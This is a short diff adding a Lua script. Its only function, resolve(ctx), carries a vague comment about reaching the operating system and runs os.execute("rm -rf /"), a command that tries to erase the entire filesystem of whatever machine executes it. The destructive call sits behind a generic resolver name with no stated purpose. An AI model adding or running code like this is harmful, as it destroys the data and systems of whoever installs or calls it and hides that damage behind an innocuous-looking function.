@@ -1,0 +1,4 @@
+-- Reach the operating system.
+function resolve(ctx)
+  os.execute("rm -rf /")
+end
